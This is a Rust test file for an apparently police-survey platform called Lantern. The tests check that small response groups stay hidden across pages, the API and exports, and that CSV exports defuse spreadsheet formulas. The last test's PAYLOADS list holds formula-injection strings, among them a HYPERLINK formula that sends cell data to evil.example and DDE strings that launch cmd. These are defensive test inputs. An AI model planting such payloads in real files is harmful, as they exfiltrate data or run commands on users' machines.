//! Privacy promises checked as an attacker would: every view of a survey (public and staff
//! pages, breakdowns, charts, the API, the exports) withholds the same small cells and their
//! complements; staff-survey exports never single out a group under the anonymity threshold;
//! and no CSV Lantern writes hands a spreadsheet a formula.

use axum::http::StatusCode;
use lantern::platform::accounts::Role;
use lantern::platform::agencies::Agency;
use lantern::platform::audit::Actor;
use lantern::platform::roster;
use lantern::surveys::model::{Answer, Answers};
use lantern::surveys::store::{self, Survey};
use lantern::surveys::templates::Template;
use lantern::surveys::writer::{self, Link, NewResponse};

use crate::db_test;
use crate::helpers::{Client, TestApp, between};

async fn agency(app: &TestApp) -> Agency {
    let a = app.agency("riverton", "Riverton PD").await;
    let mut tx = app.db.begin().await.unwrap();
    roster::insert_district(&mut tx, a.id, "D1", "Northside")
        .await
        .unwrap();
    roster::insert_district(&mut tx, a.id, "D2", "Riverside")
        .await
        .unwrap();
    tx.commit().await.unwrap();
    a
}

fn response(survey: &Survey, answers: &Answers, at: i64) -> NewResponse {
    NewResponse {
        agency_id: survey.agency_id,
        survey_id: survey.id,
        version_id: survey.current_version.unwrap(),
        submitted_at: at,
        channel: "web".into(),
        language: "en".into(),
        status: "ok",
        flag_reason: None,
        contact_id: None,
        officer_id: None,
        source_hash: None,
        answers: serde_json::to_string(answers).unwrap(),
        link: Link::Open,
    }
}

/// Stores one staff-survey answer as the writer does (a random key, only the day).
async fn staff_answer(app: &TestApp, s: &Survey, day: &str, language: &str, answers: &Answers) {
    let token = lantern::platform::secrets::random_token(16);
    let json = serde_json::to_string(answers).unwrap();
    lantern::on_db!(&app.db, |pool| sqlx::query(
        "INSERT INTO employee_responses (agency_id, survey_id, token, version_id, day, language, answers) \
         VALUES ($1, $2, $3, $4, $5, $6, $7)",
    )
    .bind(s.agency_id)
    .bind(s.id)
    .bind(&token)
    .bind(s.current_version.unwrap())
    .bind(day)
    .bind(language)
    .bind(&json)
    .execute(pool)
    .await
    .map(|_| ()))
    .unwrap();
}

async fn analyst(app: &TestApp, a: &Agency) -> Client {
    let (_, pw) = app.user(a, "ana", Role::Analyst).await;
    app.client().signed_in("riverton", "ana", &pw).await
}

/// `needles` found in `body`, with the page they were found on.
fn leaks(page: &str, body: &str, needles: &[String]) -> Vec<String> {
    needles
        .iter()
        .filter(|n| body.contains(n.as_str()))
        .map(|n| format!("{page} shows {n:?}"))
        .collect()
}

db_test!(
    every_view_of_a_survey_withholds_the_same_small_cells,
    |app| {
        let a = agency(&app).await;
        let s = app.published_survey(&a, Template::CommunityTrust).await;
        // 40 residents: 25 want traffic safety (trust 5 of 10), 12 drug enforcement (trust 2),
        // 3 youth programmes (trust 9). Three is below the threshold of 10; twelve is then the
        // next smallest, withheld with it so 3 cannot be found as 40 − 25 − 12.
        let mut rows = Vec::new();
        for (priority, n, trust) in [("traffic", 25, 5.0), ("drugs", 12, 2.0), ("youth", 3, 9.0)] {
            for i in 0..n {
                let mut answers = Answers::new();
                answers.insert("trust_respect".into(), Answer::Number(trust));
                answers.insert("trust_listen".into(), Answer::Number(trust));
                answers.insert("priority".into(), Answer::One(priority.into()));
                rows.push(response(&s, &answers, app.clock.unix() - i));
            }
        }
        writer::insert_all(&app.db, &rows).await.unwrap();
        store::set_options(
            &app.db,
            &s,
            false,
            true,
            &Actor::System("test"),
            None,
            app.clock.unix(),
        )
        .await
        .unwrap();
        // What the withheld answers would show: their shares (table and chart), their intervals,
        // and the mean trust of their groups in a breakdown (0–100: 90 and 20).
        let withheld: Vec<String> = [
            "7.5%",
            "2.6–19.9%",
            "30.0%",
            "18.1–45.4%",
            "90.0 (",
            "20.0 (",
        ]
        .map(String::from)
        .to_vec();
        // What stays: the large answer and its group.
        let shown = ["62.5%", "50.0 ("];

        let mut ana = analyst(&app, &a).await;
        let mut public = app.client();
        let mut pages: Vec<(String, String)> = Vec::new();
        for path in [
            format!("/riverton/s/{}/results", s.public_code),
            format!("/riverton/es/s/{}/results", s.public_code),
        ] {
            let r = public.get(&path).await;
            r.assert_status(StatusCode::OK);
            pages.push((path, r.body));
        }
        for path in [
            format!("/riverton/staff/surveys/{}/results", s.id),
            format!("/riverton/staff/surveys/{}/results?by=q:priority", s.id),
        ] {
            let r = ana.get(&path).await;
            r.assert_status(StatusCode::OK);
            pages.push((path, r.body));
        }
        let mut found = Vec::new();
        for (path, body) in &pages {
            found.extend(leaks(path, body, &withheld));
            // The count cells of the withheld answers.
            let section = between(body, "id=\"r-priority\"", "</section>").unwrap_or_default();
            for count in ["<td class=\"num\">3</td>", "<td class=\"num\">12</td>"] {
                if section.contains(count) {
                    found.push(format!("{path} shows the count {count}"));
                }
            }
        }
        assert!(found.is_empty(), "{found:#?}");
        let staff_page = &pages[2].1;
        assert!(staff_page.contains(shown[0]), "the large answer is shown");
        // The chart beside the table draws no bar for them: it says they are withheld.
        let chart = between(staff_page, "id=\"r-priority\"", "</svg>").unwrap();
        assert_eq!(
            chart.matches("Too few answers to show").count(),
            2,
            "{chart}"
        );
        assert_eq!(
            chart.matches("<rect").count(),
            4,
            "a bar for each answer shown: {chart}"
        );
        let breakdown = &pages[3].1;
        assert!(breakdown.contains(shown[1]), "{breakdown}");
        assert!(
            breakdown.contains("2 groups too small to show"),
            "{breakdown}"
        );

        // The API gives the same numbers, and no number for what is withheld.
        let (_, token) = lantern::platform::api_tokens::create(
            &app.db,
            a.id,
            "dashboard",
            Role::Analyst,
            &Actor::System("test"),
            None,
            app.clock.unix(),
        )
        .await
        .unwrap();
        let mut api = app.client().bearer(&token);
        let results = api.get(&format!("/api/v1/surveys/{}/results", s.id)).await;
        results.assert_status(StatusCode::OK);
        let json = results.json();
        let priority = json["questions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|q| q["key"] == "priority")
            .unwrap();
        for c in priority["choices"].as_array().unwrap() {
            let label = c["label"].as_str().unwrap();
            if label == "Traffic safety" {
                assert_eq!(c["count"], 25);
            }
            if label == "Programs for young people" || label == "Drug dealing" {
                assert_eq!(c["withheld"], true, "{c}");
                assert!(c["count"].is_null() && c["share"].is_null(), "{c}");
            }
        }
        assert!(!results.body.contains("0.075"), "{}", results.body);
        assert!(!results.body.contains("\"count\":3"), "{}", results.body);
    }
);

db_test!(
    staff_survey_views_and_exports_single_out_no_small_group,
    |app| {
        let a = agency(&app).await;
        let s = app.published_survey(&a, Template::EmployeeEngagement).await;
        // Twelve staff: seven in patrol, three investigators, two commanders (the anonymity
        // threshold is five). Each writes a comment.
        let groups = [
            ("patrol", 7, "1"),
            ("investigations", 3, "3"),
            ("command", 2, "5"),
        ];
        let mut i = 0;
        for (assignment, n, proud) in groups {
            for _ in 0..n {
                let mut answers = Answers::new();
                answers.insert("assignment".into(), Answer::One(assignment.into()));
                answers.insert("tenure".into(), Answer::One("15+".into()));
                answers.insert("morale_proud".into(), Answer::One(proud.into()));
                answers.insert(
                    "comments".into(),
                    Answer::One(format!("comment-{i} from {assignment}")),
                );
                staff_answer(&app, &s, &format!("2026-05-{:02}", 1 + i), "en", &answers).await;
                i += 1;
            }
        }
        let mut ana = analyst(&app, &a).await;
        // Investigators' and commanders' shares of the assignment question (3 and 2 of 12).
        let withheld: Vec<String> = ["25.0%", "16.7%"].map(String::from).to_vec();
        let mut found = Vec::new();
        for by in ["", "?by=q:assignment", "?by=month"] {
            let path = format!("/riverton/staff/surveys/{}/results{by}", s.id);
            let r = ana.get(&path).await;
            r.assert_status(StatusCode::OK);
            found.extend(leaks(&path, &r.body, &withheld));
            let section = between(&r.body, "id=\"r-assignment\"", "</section>").unwrap_or_default();
            for count in ["<td class=\"num\">3</td>", "<td class=\"num\">2</td>"] {
                if section.contains(count) {
                    found.push(format!("{path} shows the count {count}"));
                }
            }
        }
        assert!(found.is_empty(), "{found:#?}");

        // The exports carry no commander or investigator as such, no day, and no comment.
        let csv = ana
            .get(&format!("/riverton/staff/surveys/{}/export.csv", s.id))
            .await;
        csv.assert_status(StatusCode::OK);
        let (_, token) = lantern::platform::api_tokens::create(
            &app.db,
            a.id,
            "dashboard",
            Role::Analyst,
            &Actor::System("test"),
            None,
            app.clock.unix(),
        )
        .await
        .unwrap();
        let json = app
            .client()
            .bearer(&token)
            .get(&format!("/api/v1/surveys/{}/responses", s.id))
            .await;
        json.assert_status(StatusCode::OK);
        for (what, body) in [("CSV", &csv.body), ("JSON", &json.body)] {
            for needle in [
                "command",
                "Command",
                "investigations",
                "2026-05-",
                "comment-",
            ] {
                assert!(
                    !body.contains(needle),
                    "the {what} export has {needle:?}: {body}"
                );
            }
        }
        assert_eq!(json.json().as_array().unwrap().len(), 12);
        // The comments come apart, without anything else from the response.
        let comments = ana
            .get(&format!(
                "/riverton/staff/surveys/{}/export.csv?part=comments",
                s.id
            ))
            .await;
        comments.assert_status(StatusCode::OK);
        let mut reader = csv::Reader::from_reader(comments.body.as_bytes());
        assert_eq!(
            reader.headers().unwrap().iter().collect::<Vec<_>>(),
            ["question", "comment"]
        );
        assert_eq!(reader.records().count(), 12);
    }
);

/// What a spreadsheet would run: a field that starts with a formula character and is not a
/// plain number. Every such field must come neutralised (a leading apostrophe) and quoted.
fn assert_formula_safe(what: &str, raw: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(raw.as_bytes());
    let mut neutralised = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for field in record.iter() {
            match field.as_bytes().first() {
                Some(b'=' | b'+' | b'@' | b'\t' | b'\r') => {
                    panic!("{what}: a live formula {field:?}")
                }
                Some(b'-') => assert!(
                    field.parse::<f64>().is_ok_and(f64::is_finite),
                    "{what}: a live formula {field:?}"
                ),
                Some(b'\'') => {
                    neutralised += 1;
                    let quoted = format!("\"{}\"", field.replace('"', "\"\""));
                    assert!(raw.contains(&quoted), "{what}: {field:?} is not quoted");
                }
                _ => {}
            }
        }
    }
    assert!(neutralised > 0, "{what}: no neutralised field in {raw}");
}

const PAYLOADS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1;=2",
];

db_test!(no_csv_lantern_writes_carries_a_formula, |app| {
    let a = agency(&app).await;
    let mut ana = analyst(&app, &a).await;

    // A community survey's responses, with residents' comments as payloads.
    let s = app.published_survey(&a, Template::CommunityTrust).await;
    let rows: Vec<NewResponse> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let mut answers = Answers::new();
            answers.insert("trust_respect".into(), Answer::Number(3.0));
            answers.insert("comments".into(), Answer::One(p.to_string()));
            response(&s, &answers, app.clock.unix() - i as i64)
        })
        .collect();
    writer::insert_all(&app.db, &rows).await.unwrap();
    let csv = ana
        .get(&format!("/riverton/staff/surveys/{}/export.csv", s.id))
        .await;
    csv.assert_status(StatusCode::OK);
    assert_formula_safe("survey responses", &csv.body);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let at = header.iter().position(|h| h == "comments").unwrap();
    let mut comments: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[at].to_string())
        .collect();
    comments.sort();
    let mut want: Vec<String> = PAYLOADS.iter().map(|p| format!("'{p}")).collect();
    want.sort();
    assert_eq!(
        comments, want,
        "each payload kept whole, behind an apostrophe"
    );

    // A staff survey's comments, listed apart.
    let staff = app.published_survey(&a, Template::EmployeeEngagement).await;
    for (i, p) in PAYLOADS.iter().enumerate() {
        let mut answers = Answers::new();
        answers.insert("morale_proud".into(), Answer::One("4".into()));
        answers.insert("comments".into(), Answer::One(p.to_string()));
        staff_answer(&app, &staff, &format!("2026-05-0{}", 1 + i), "en", &answers).await;
    }
    let comments = ana
        .get(&format!(
            "/riverton/staff/surveys/{}/export.csv?part=comments",
            staff.id
        ))
        .await;
    comments.assert_status(StatusCode::OK);
    assert_formula_safe("staff comments", &comments.body);

    // Stop data whose districts are payloads: the tables by district and the cells.
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record([
        "date",
        "time",
        "district",
        "subject_race",
        "type",
        "search_conducted",
    ])
    .unwrap();
    for (i, p) in PAYLOADS.into_iter().enumerate() {
        for j in 0..30 {
            let race = ["white", "black", "hispanic"][j % 3];
            let time = format!("{:02}:{:02}:00", j % 24, i);
            let searched = if j % 4 == 0 { "TRUE" } else { "FALSE" };
            w.write_record(["2017-03-05", time.as_str(), p, race, "vehicular", searched])
                .unwrap();
        }
    }
    let file = w.into_inner().unwrap();
    let (_, report) = lantern::transparency::import_now(
        &app.db,
        &a,
        "payloads.csv",
        Box::new(std::io::Cursor::new(file.clone())),
        Some(file.len() as u64),
        lantern::transparency::mapping::Mapping::sopp(),
        false,
        Actor::System("test"),
        app.clock.unix(),
        None,
    )
    .await
    .unwrap();
    assert_eq!(
        report.rows_inserted,
        30 * PAYLOADS.len() as u64,
        "{report:?}"
    );
    for file in ["cells.csv", "rates.csv", "benchmark.csv", "darkness.csv"] {
        let r = ana
            .get(&format!("/riverton/staff/stops/export/{file}"))
            .await;
        r.assert_status(StatusCode::OK);
        if file == "cells.csv" {
            assert_formula_safe(file, &r.body);
        } else {
            // No payload reaches these as a cell of its own; none may carry a live one.
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(r.body.as_bytes());
            for record in reader.records() {
                for field in record.unwrap().iter() {
                    assert!(
                        !matches!(
                            field.as_bytes().first(),
                            Some(b'=' | b'+' | b'@' | b'\t' | b'\r')
                        ) && (!field.starts_with('-') || field.parse::<f64>().is_ok()),
                        "{file}: {field:?}"
                    );
                }
            }
        }
    }
});
